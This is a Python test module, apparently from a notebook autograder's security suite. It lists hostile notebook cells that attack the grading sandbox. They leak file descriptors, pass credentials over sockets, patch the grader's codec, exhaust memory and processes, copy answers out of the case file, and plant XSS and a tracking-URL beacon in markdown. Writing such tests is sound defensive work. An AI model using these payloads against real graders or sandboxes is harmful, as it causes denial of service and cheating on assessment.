"""Hostile notebooks by readers of the grader's source: each gained something once, or took the grading down."""

from __future__ import annotations

import base64
from typing import Any

import nbformat

from seqlib.exercises import cases

from .attack import Attack, Change, answers, cell, last, many, shown
from .test_points import COUNTED, REPLAYED

SOCKET = "import array, os, socket, stat\nfd = next(n for n in range(3, 99) if stat.S_ISSOCK(os.fstat(n).st_mode))\nlink = socket.socket(fileno=os.dup(fd))\n"
PACK = "from autograder.sandbox.inside import frames\nplain = frames.pack\ndef pack(kind, nonce, body):\n    data = plain(kind, nonce, body)\n    {}\n    return data[1:]\nframes.pack = pack"
NAME = "import ctypes, os, time\nctypes.CDLL(None).prctl(15, b'\\xff\\xfe\\x80', 0, 0, 0)\n"
# A frame of the codec as the grader reads it, and not as its own code writes it.
FRAME = """
import json
from seqlib.exercises import calls
def frame(value, specs, tail=b''):
    text = json.dumps([{{'d': [['value', value], ['arguments', []]]}}, specs]).encode()
    return b'SQB1' + len(text).to_bytes(4, 'big') + text + tail
data = {}
calls.perform = lambda *a: data
"""
TABLES = "import mmap\nx = mmap.mmap(-1, 2**38, flags=mmap.MAP_PRIVATE | 0x4000, prot=mmap.PROT_READ)\nx.madvise(15)\nfor i in range(0, len(x), 2**21): x[i]"
UPDATED = """
from IPython.display import display, update_display
class Shown:
    def __init__(self, text): self.text = text
    def _repr_mimebundle_(self, **options): return {"text/plain": self.text}
for i in range(950): display(Shown("x"), display_id="a")
update_display(Shown("y" * 900_000), display_id="a")
"""
TERMINALS = """
import os, termios, time
pairs = [os.openpty() for i in range(4)]
start = time.monotonic()
while time.monotonic() - start < 9:
    for ours, theirs in pairs:
        os.set_blocking(ours, False)
        try: os.write(ours, b"\\x01" * 4000)
        except BlockingIOError: pass
        termios.tcflush(theirs, termios.TCIFLUSH)
    time.sleep(0.002)
"""
UNREAD = """
import os, socket, time
for i in range(8):
    if os.fork() == 0:
        kept = []
        while True:
            try:
                pair = socket.socketpair()
                kept.append(pair)
                pair[0].setblocking(False)
                while True: pair[0].send(bytes(2**16))
            except BlockingIOError: pass
            except OSError: time.sleep(99)
time.sleep(99)
"""
REAPED = """
import os, signal, time
try: signal.signal(signal.SIGCHLD, signal.SIG_IGN)
except OSError: pass
while True:
    if os.fork() == 0:
        start = time.process_time()
        while time.process_time() - start < 0.1: pass
        os._exit(0)
    time.sleep(0.1)
"""
LOOKED_UP = """
import base64, io, os, tempfile
from pathlib import Path
with tempfile.NamedTemporaryFile(suffix='.npz', delete=False) as file: file.write(base64.b64decode({packed!r}))
import numpy as np
from seqlib.exercises import codec
def unpacked(path):
    import json
    with np.load(path, allow_pickle=False) as file:
        arrays = [file[f'array_{{i}}'] for i in range(len(file.files) - 2)]
        pieces = json.loads(str(file['pieces']))
    return {{name: [codec.join(tree, [arrays[i] for i in places]) for tree, places in some] for name, some in pieces.items()}}
table = {{name: {{repr((case['args'], case['kwargs'])): case['expected'] for case in found}} for name, (_, *found) in unpacked(file.name).items()}}
"""


def frame(source: str) -> Attack:
    return Attack(cell(FRAME.format(source)), harmless=False)


def looked_up(notebook: Any) -> None:
    """Every answer is looked up by its arguments in the case file that lies beside the notebook at home."""
    cell(table_of("lesson-03"))(notebook)
    last(
        "for name in table: globals()[name] = lambda *a, _known=table[name], **k: _known.get(repr((a, k)))",
    )(notebook)


def table_of(lesson: str) -> str:
    """Code that fills `table` with the answers of a lesson's case file."""
    return LOOKED_UP.format(packed=base64.b64encode((cases.FOLDER / f"{lesson}.npz").read_bytes()).decode())


def large(metadata: bool) -> Change:
    """Megabytes that grading does not need, or that nobody writes."""

    def change(notebook: Any) -> None:
        if metadata:
            notebook.metadata["x"] = {str(i): [{}] * 5 for i in range(60_000)}
        else:
            notebook.cells.insert(1, nbformat.v4.new_code_cell("x = (\n" + f"'{'y' * 97}'\n" * 50_000 + ")"))

    return change


def numerous(notebook: Any) -> None:
    notebook.cells[1:1] = [nbformat.v4.new_markdown_cell("x") for _ in range(2_000)]


WHITE_BOX: dict[str, Attack] = {
    # between the two processes
    "process name that is no text": Attack(cell(NAME + "if os.fork() == 0: time.sleep(99)")),
    "process name that is no text, and an end": Attack(cell(NAME + "if os.fork() == 0: time.sleep(99)\nos._exit(0)")),
    "descriptors sent along": Attack(
        cell(SOCKET + PACK.format("socket.send_fds(link, [data[:1]], [os.open(os.devnull, os.O_RDONLY)] * 9)")),
        harmless=False,  # it opens one more for each answer, until it may open no more
    ),
    "credentials sent along": Attack(
        cell(
            SOCKET
            + PACK.format(
                "link.sendmsg([data[:1]], [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, array.array('i', [os.getpid(), os.getuid(), os.getgid()]).tobytes())])"
            )
        )
    ),
    "no function for stand-ins": Attack(
        cell(
            "from seqlib.exercises import calls, codec\nold = calls.perform\ncalls.perform = lambda n, d: codec.encode({'missing': True}) if codec.decode(d)['kind'] == 'probe' else old(n, d)"
        ),
        harmless=False,
    ),
    # answers that are dear to read
    "one array named 300 times": frame("frame({'t': [{'a': 0}] * 300}, [['<f8', [500_000]]], bytes(4_000_000))"),
    "array of signs of no length": frame("frame({'a': 0}, [['<U0', [2**29]]])"),
    "keys of one hash": frame("frame({'d': [[2**61 * k - k, 0] for k in range(1, 30_001)]}, [])"),
    "a million arrays": frame("frame([{'a': 0}] * 100_000, [['<f8', [1]]] * 100_000, bytes(800_000))"),
    "1.4 million arrays": frame(
        "frame([{'a': 0}] * 1_400_000, [['<f8', [1]]] * 1_400_000, bytes(11_200_000))",
    ),
    "answers of 7 MB": frame("b'SQB1' + bytes(7 * 2**20)"),
    "answers of 23 MiB": frame("b'SQB1' + bytes(23 * 2**20)"),
    # answers that cannot be compared
    "number of 400 digits": Attack(answers("lambda *a, **k: 10**400"), harmless=False),
    "fraction without end": Attack(
        answers("lambda *a, **k: __import__('fractions').Fraction(10**400, 3)"), harmless=False
    ),
    "huge complex numbers": Attack(
        answers("lambda *a, **k: __import__('numpy').full((3, 4), complex(1e308, 1e308))"), harmless=False
    ),
    "half a character as an answer": Attack(answers("lambda *a, **k: '\\ud800'"), harmless=False),
    "code points that are none": Attack(
        answers("lambda *a, **k: __import__('numpy').frombuffer(b'\\xff' * 16, '<U4')"), harmless=False
    ),
    # answers that were not written
    "cell that replays what was made up": Attack(last(REPLAYED), harmless=False),
    "cell that counts its calls": Attack(last(COUNTED), harmless=False),
    "answers from the case file": Attack(looked_up, harmless=False),
    # what is used and was not counted
    "page tables": Attack(cell(TABLES)),
    "unread sockets": Attack(cell(UNREAD)),
    "children that nobody waits for": Attack(cell(REAPED)),
    "an end in every cell": Attack(many("import os, time\ntime.sleep(0.3)\nos._exit(0)"), harmless=False),
    "standing back behind others": Attack(
        cell("import os\nos.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))\nos.nice(19)")
    ),
    "displays updated all at once": Attack(cell(UPDATED)),
    "pseudo-terminals": Attack(cell(TERMINALS)),
    # notebooks that are dear to read
    "metadata of megabytes": Attack(large(metadata=True)),
    "code of megabytes": Attack(large(metadata=False)),
    "thousands of cells": Attack(numerous, aside=True),
    # what the instructor opens
    "handler in an address": Attack(
        shown(
            "markdown", "<p>\n<https://autofocus/contenteditable/onfocus=alert(1)>\n<https://x/onmouseover=alert(1)//>"
        )
    ),
    "style and picture in an address": Attack(
        shown("markdown", "<p>\n<https://x/style=background:url(https://a.example/seen)>")
    ),
    "forms with thousands of attributes": Attack(shown("markdown", "<a " + "bb " * 28_000)),
    "links that never end": Attack(shown("markdown", "[" * 200_000)),
}
